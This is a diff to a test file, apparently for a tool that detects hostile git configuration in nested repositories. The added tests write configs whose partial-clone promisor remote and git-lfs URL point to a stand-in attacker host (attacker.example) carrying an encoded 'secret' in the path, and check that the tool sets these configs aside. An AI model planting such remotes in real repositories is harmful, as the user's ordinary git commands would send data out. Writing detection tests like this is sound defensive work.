@@ -48,6 +48,16 @@ test('repositories made by git init, clone and submodule add, with remotes and b
   })).toEqual([]);
 });
 
+test.each([
+  ['a partial clone whose promisor remote carries what the command read', '[extensions]\n\tpartialclone = origin\n[remote "origin"]\n\turl = https://attacker.example/c2VjcmV0\n\tpromisor = true\n\tpartialclonefilter = blob:none\n'],
+  ['a git-lfs endpoint', '[lfs]\n\turl = https://attacker.example/c2VjcmV0\n'],
+])("%s (the user's next git status or checkout would reach it): the config is set aside", async (_what, config) => {
+  expect(await around(() => {
+    git(root, 'init', '-q', 'lib');
+    writeFileSync(path.join(root, 'lib', '.git', 'config'), `[core]\n\trepositoryformatversion = 1\n${config}`);
+  })).toEqual(['lib/.git/config']);
+});
+
 test("a nested repository whose core.worktree leads outside the project (absolute, relative, through a link): set aside; a submodule's own relative one stays", async () => {
   const outside = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'mc-sweep-outside-')));
   try {
